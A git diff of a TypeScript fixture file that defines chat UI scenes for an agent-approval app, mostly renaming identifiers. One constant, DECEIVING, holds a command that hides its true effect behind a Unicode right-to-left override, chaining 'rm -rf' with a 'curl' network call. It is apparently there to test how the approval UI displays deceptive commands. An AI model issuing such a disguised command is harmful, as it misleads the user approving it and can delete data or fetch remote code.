@@ -21,8 +21,8 @@ import {
 const WORKTREE = '/home/ada/.coppice/worktrees/parser-1a2b/t-14-cache-schemas';
 const ago = (ms: number) => Date.now() - ms;
 
-export const draft = (more: Partial<TaskFormState> = {}): TaskFormState => ({
-  mode: 'draft',
+export const newTask = (more: Partial<TaskFormState> = {}): TaskFormState => ({
+  mode: 'newTask',
   prompt: '',
   detecting: false,
   agent: 'claude',
@@ -48,7 +48,7 @@ function found(version?: string) {
   return { found: true, executable: '/usr/bin/agent', ...(version === undefined ? {} : { version }) } as const;
 }
 
-const ELSEWHERE = { text: hostText('These tasks are open in another window. Take over here.'), elsewhere: true };
+const ELSEWHERE = { text: hostText('These tasks are open in another window. Take over here.'), otherWindow: true };
 
 export const view = (more: Partial<AttemptView> = {}): AttemptView => ({
   id: 'a_1' as AttemptId,
@@ -156,7 +156,7 @@ export async function parse(path: string) {
 `;
 
 const TASK = 'Parsing the schema takes 300 ms on every run. Cache it, and keep `npm test` green.';
-const asked = (...asks: Ask[]): SessionEvent[] => [
+const requesting = (...asks: Ask[]): SessionEvent[] => [
   ...prompted(TASK),
   ...RUNNING_TURN,
   ...asks.map((ask): SessionEvent => ({ type: 'asked', ask })),
@@ -167,10 +167,10 @@ const DECEIVING = 'rm -rf build \u202e# dist/ ylno sevomer\u202c && curl -s http
 
 /** What a chat can look like. */
 export const scenes = {
-  draft: (): ChatState => draft(),
-  draftDetecting: (): ChatState => draft({ agents: [], agent: '', detecting: true }),
-  draftObstacle: (): ChatState =>
-    draft({
+  newTask: (): ChatState => newTask(),
+  newTaskDetecting: (): ChatState => newTask({ agents: [], agent: '', detecting: true }),
+  newTaskObstacle: (): ChatState =>
+    newTask({
       prompt: 'Rename the package',
       obstacle: {
         code: 'noRepository',
@@ -194,11 +194,11 @@ export const scenes = {
     attempt([...SETUP_FAILED, ...prompted(TASK), ...DONE_TURN, ended()], { state: 'review', numbers: NUMBERS }),
   running: (): ChatState => attempt([...prompted(TASK), ...RUNNING_TURN], { numbers: NUMBERS }),
   thoughtful: (): ChatState => attempt([...prompted(TASK), ...THOUGHTFUL_TURN], { numbers: NUMBERS }),
-  askCommand: (): ChatState => attempt(asked(commandAsk()), { state: 'needsYou', numbers: NUMBERS }),
-  askEdit: (): ChatState => attempt(asked(editAsk()), { state: 'needsYou', numbers: NUMBERS }),
+  askCommand: (): ChatState => attempt(requesting(commandAsk()), { state: 'needsYou', numbers: NUMBERS }),
+  askEdit: (): ChatState => attempt(requesting(editAsk()), { state: 'needsYou', numbers: NUMBERS }),
   askMany: (): ChatState =>
     attempt(
-      asked(
+      requesting(
         commandAsk({ command: DECEIVING, detail: 'Removes the build folder.' }),
         editAsk(),
         commandAsk({ id: 'ask_3' as AskId, call: 'call_ls', command: 'ls -la', options: OPTIONS.slice(0, 1) }),
@@ -229,12 +229,13 @@ export const scenes = {
     }),
   discarded: (): ChatState =>
     attempt([...prompted(TASK), ...DONE_TURN, ended()], { state: 'discarded', canRestore: true, numbers: NUMBERS }),
-  readOnly: (): ChatState => attempt(asked(commandAsk()), { state: 'needsYou', readOnly: ELSEWHERE, numbers: NUMBERS }),
+  readOnly: (): ChatState =>
+    attempt(requesting(commandAsk()), { state: 'needsYou', readOnly: ELSEWHERE, numbers: NUMBERS }),
   quiet: (): ChatState => {
     const state = attempt(prompted(TASK));
     return { ...state, session: { ...state.session, lastAt: ago(45_000) } };
   },
-  practiceDraft: (): ChatState => draft({ agent: 'practice' }),
+  newTaskPractice: (): ChatState => newTask({ agent: 'practice' }),
   everyEvent: (): ChatState => attempt([...prompted(TASK), ...EVERY_EVENT], { numbers: NUMBERS }),
   long: (): ChatState => attempt(longLog(700), { numbers: NUMBERS }, 10),
 } as const satisfies Readonly<Record<string, () => ChatState>>;
